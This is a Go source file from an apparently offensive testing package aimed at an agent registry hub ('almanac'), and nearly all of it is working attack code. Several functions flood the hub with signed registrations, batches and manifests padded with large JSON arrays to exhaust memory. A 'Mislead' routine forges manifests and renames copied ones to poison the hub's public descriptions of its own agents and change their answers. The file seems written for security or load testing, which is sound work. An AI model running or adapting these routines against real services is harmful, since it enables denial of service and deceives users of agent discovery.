package attack

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/parley-hub/parley/uagents"
)

const (
	pathAgents    = "/v1/almanac/agents"
	pathManifests = "/v1/almanac/manifests"
	pathSubmit    = "/submit"
	pathMailbox   = "/v2/agents/mailbox/submit"
)

// texts is a JSON array of size bytes with many short texts. Parsed, it takes many
// times its length in memory.
func texts(size int) []byte {
	const one = `"x",`
	b := bytes.Repeat([]byte(one), max(1, size/len(one)))
	b[len(b)-1] = ']'
	return append([]byte{'['}, b...)
}

// chat is the protocol of a registration whose protocols do not matter.
var chat = []string{uagents.ChatProtocolDigest}

// registering is the request of a registration.
func registering(id *uagents.Identity, endpoints []uagents.Endpoint, protocols []string,
	metadata []byte) (*request, error) {
	b, err := registration(id, endpoints, protocols, metadata)
	return post(pathAgents, b), err
}

// registration renders a signed registration. The metadata go into the signed text
// unparsed, which saves the attack the parsing.
func registration(id *uagents.Identity, endpoints []uagents.Endpoint, protocols []string,
	metadata []byte) ([]byte, error) {
	r := uagents.NewRegistration(id, false, endpoints, protocols)
	r.Timestamp = uagents.Uint(uint64(time.Now().Unix()))
	text, err := r.SignedText()
	if err != nil {
		return nil, err
	}
	if metadata != nil {
		whole := append([]byte(`"metadata":{"padding":`), append(slices.Clone(metadata), '}')...)
		text = bytes.Replace(text, []byte(`"metadata":{}`), whole, 1)
	}
	signature, err := id.SignDigest(sha256.Sum256(text))
	if err != nil {
		return nil, err
	}
	return append(text[:len(text)-1], `,"signature":"`+signature+`"}`...), nil
}

var elsewhere = []uagents.Endpoint{{URL: "http://192.0.2.1/submit", Weight: 1}}

// Registrations registers n self-made uAgents keys, each with metadata bytes of
// metadata.
func (a *Attack) Registrations(ctx context.Context, n, metadata int) Result {
	padding := texts(metadata)
	return a.floodBy(ctx, n, 1, func(_ int, id *uagents.Identity) (*request, error) {
		return registering(id, elsewhere, chat, padding)
	})
}

// The most that a registration may name.
const (
	mostEndpoints = 20
	mostProtocols = 200
)

// WideRegistrations registers n self-made keys, each with as many endpoints
// and protocols as a registration may name.
func (a *Attack) WideRegistrations(ctx context.Context, n int) Result {
	var endpoints []uagents.Endpoint
	for i := range mostEndpoints {
		at := fmt.Sprintf("http://192.0.2.%d/%s", i+1, strings.Repeat("x", 1500))
		endpoints = append(endpoints, uagents.Endpoint{URL: at, Weight: 1})
	}
	return a.floodBy(ctx, n, 1, func(_ int, id *uagents.Identity) (*request, error) {
		protocols := make([]string, mostProtocols)
		for p := range protocols {
			sum := sha256.Sum256([]byte(id.Address() + strconv.Itoa(p)))
			protocols[p] = "proto:" + hex.EncodeToString(sum[:])
		}
		return registering(id, endpoints, protocols, nil)
	})
}

// Batches sends n batches of each registrations, with metadata bytes of metadata. If all
// registrations of a batch are refused, the answer is a refusal.
func (a *Attack) Batches(ctx context.Context, n, each, metadata int) Result {
	padding := texts(metadata)
	return a.flood(ctx, n, func(int) (*request, error) {
		b := []byte(`{"attestations":[`)
		for i := range each {
			id, err := uagents.NewIdentity()
			if err != nil {
				return nil, err
			}
			one, err := registration(id, elsewhere, chat, padding)
			if err != nil {
				return nil, err
			}
			if i > 0 {
				b = append(b, ',')
			}
			b = append(b, one...)
		}
		return post(pathAgents+"/batch", append(b, `]}`...)), nil
	})
}

// Manifests publishes n manifests of about size bytes, each with another digest.
// Manifests are not signed.
func (a *Attack) Manifests(ctx context.Context, n, size int) Result {
	model, err := modelOf("Padding", "")
	if err != nil {
		return Result{Err: err}
	}
	rest, err := manifest("", "guest", texts(size), []guestModel{model}, nil)
	if err != nil {
		return Result{Err: err}
	}
	// Of the digest only the version differs: the attack need not make the rest anew.
	rest = bytes.TrimPrefix(rest, []byte(`{"version":""`))
	unique := strconv.FormatInt(time.Now().UnixNano(), 36)
	return a.flood(ctx, n, func(i int) (*request, error) {
		return post(pathManifests, slices.Concat([]byte(fmt.Sprintf(`{"version":"%s-%d"`, unique, i)), rest)), nil
	})
}

// guestModel is a model as a manifest names it.
type guestModel struct {
	Digest string          `json:"digest"`
	Schema json.RawMessage `json:"schema"`
}

// modelOf makes a model that any object fits.
func modelOf(title, description string) (guestModel, error) {
	schema, err := json.Marshal(struct {
		Title       string   `json:"title"`
		Description string   `json:"description,omitempty"`
		Type        string   `json:"type"`
		Properties  struct{} `json:"properties"`
	}{Title: title, Description: description, Type: "object"})
	if err != nil {
		return guestModel{}, err
	}
	m, err := uagents.ParseModel(schema)
	if err != nil {
		return guestModel{}, err
	}
	return guestModel{m.Digest(), schema}, nil
}

// interaction is a request with its answers, by digest.
type interaction struct {
	Type      string   `json:"type"`
	Request   string   `json:"request"`
	Responses []string `json:"responses"`
}

// manifest renders a manifest; the version stands first.
func manifest(version, name string, padding []byte, models []guestModel, interactions []interaction) ([]byte, error) {
	type metadata struct {
		Name    string          `json:"name"`
		Padding json.RawMessage `json:"padding,omitempty"`
	}
	if interactions == nil {
		interactions = []interaction{}
	}
	return json.Marshal(struct {
		Version      string        `json:"version"`
		Metadata     metadata      `json:"metadata"`
		Models       []guestModel  `json:"models"`
		Interactions []interaction `json:"interactions"`
	}{version, metadata{name, padding}, models, interactions})
}

// maxTries is the number of attempts to get the data that an attack needs first.
const maxTries = 20

// A Published is the public description of one of the hub's agents: its manifest,
// and one request in it.
type Published struct {
	Protocol string   // digest of the manifest
	Manifest []byte   // as received from the hub
	Request  string   // digest of a request
	Answers  []string // digests of its possible answers
	schema   json.RawMessage
}

// Published gets the public description of the target.
func (a *Attack) Published(ctx context.Context) (Published, error) {
	var p Published
	b, err := a.ask(ctx, page(pathAgents+"/"+a.c.Target))
	var record struct{ Protocols []string }
	if err == nil {
		err = json.Unmarshal(b, &record)
	}
	if err != nil {
		return p, fmt.Errorf("attack: the record of %s: %w", a.c.Target, err)
	}
	for _, bare := range record.Protocols {
		digest := "proto:" + strings.TrimPrefix(bare, "proto:")
		if digest == uagents.ChatProtocolDigest {
			continue
		}
		b, err := a.ask(ctx, page(pathManifests+"/protocols/"+digest))
		if err != nil {
			return p, fmt.Errorf("attack: the manifest %s: %w", digest, err)
		}
		var m struct {
			Models       []guestModel
			Interactions []interaction
		}
		if err := json.Unmarshal(b, &m); err != nil {
			return p, err
		}
		if len(m.Interactions) == 0 {
			continue
		}
		p = Published{Protocol: digest, Manifest: b, Request: m.Interactions[0].Request,
			Answers: m.Interactions[0].Responses}
		at := slices.IndexFunc(m.Models, func(m guestModel) bool { return m.Digest == p.Request })
		if at < 0 {
			return p, errors.New("attack: the manifest does not define its request")
		}
		p.schema = m.Models[at].Schema
		return p, nil
	}
	return p, fmt.Errorf("attack: %s has no manifest of its own", a.c.Target)
}

// Ask sends the target an empty object, signed by a new key, and gives the schema digest
// and the text of the answer.
func (a *Attack) Ask(ctx context.Context, schema string) (answer, text string, err error) {
	id, err := uagents.NewIdentity()
	if err != nil {
		return "", "", err
	}
	payload := uagents.EncodePayload([]byte("{}"))
	b, err := envelope(id, a.c.Target, schema, &payload, time.Now().Add(time.Minute))
	if err != nil {
		return "", "", err
	}
	b, err = a.ask(ctx, submission(b, true))
	if err != nil {
		return "", "", fmt.Errorf("attack: the target: %w", err)
	}
	e, err := uagents.Decode(b)
	if err != nil {
		return "", "", err
	}
	m, err := e.Message()
	return m.Schema, string(m.Payload), err
}

// Mislead tries n times to change the public description of the hub's own agents. It
// publishes a manifest in which the target's request has an answer model of the attack,
// named by a registered key; and a copy of the target's manifest under another name.
// Changed descriptions and answers count as changed.
func (a *Attack) Mislead(ctx context.Context, n int) Result {
	p, err := a.Published(ctx)
	for try := 0; err != nil && ctx.Err() == nil && try < maxTries; try++ {
		wait(ctx, a.c.Reopen) // another attack may block this one
		p, err = a.Published(ctx)
	}
	if ctx.Err() != nil {
		return Result{}
	}
	if err != nil {
		return Result{Err: err}
	}
	copied := Rename(p.Manifest, "a name that a guest chose")
	unique := strconv.FormatInt(time.Now().UnixNano(), 36)
	return a.each(ctx, n, func(web *http.Client, i int, t *tally) error {
		forged, digest, err := Forge(p, fmt.Sprintf("%s-%d", unique, i))
		if err != nil {
			return err
		}
		id, err := uagents.NewIdentity()
		if err != nil {
			return err
		}
		registered, err := registering(id, elsewhere, []string{digest, p.Protocol}, nil)
		if err != nil {
			return err
		}
		a.send(ctx, web, post(pathManifests, forged), t)
		a.send(ctx, web, registered, t)
		a.send(ctx, web, post(pathManifests, copied), t)
		answer, _, err := a.Ask(ctx, p.Request)
		misled := err == nil && !slices.Contains(p.Answers, answer)
		if again, err := a.Published(ctx); err == nil && string(again.Manifest) != string(p.Manifest) {
			misled = true
		}
		if misled {
			t.add(func(r *Result) { r.Changed++ })
		}
		return nil
	})
}

// Forge makes a manifest with another answer model for a published request, and gives
// its digest.
func Forge(p Published, version string) (b []byte, digest string, err error) {
	answer, err := modelOf("Forged", "a model that a guest made")
	if err != nil {
		return nil, "", err
	}
	models := []guestModel{{p.Request, p.schema}, answer}
	b, err = manifest(version, "forged", nil, models, []interaction{{"normal", p.Request, []string{answer.Digest}}})
	if err != nil {
		return nil, "", err
	}
	m, err := uagents.ParseManifest(b)
	if err != nil {
		return nil, "", err
	}
	return b, m.Digest(), nil
}

// Rename gives a manifest another name; its digest stays.
func Rename(manifest []byte, name string) []byte {
	var m map[string]json.RawMessage
	var metadata map[string]json.RawMessage
	if json.Unmarshal(manifest, &m) != nil || json.Unmarshal(m["metadata"], &metadata) != nil {
		return manifest
	}
	metadata["name"] = json.RawMessage(strconv.Quote(name))
	var err error
	if m["metadata"], err = json.Marshal(metadata); err != nil {
		return manifest
	}
	b, err := json.Marshal(m)
	if err != nil {
		return manifest
	}
	return b
}
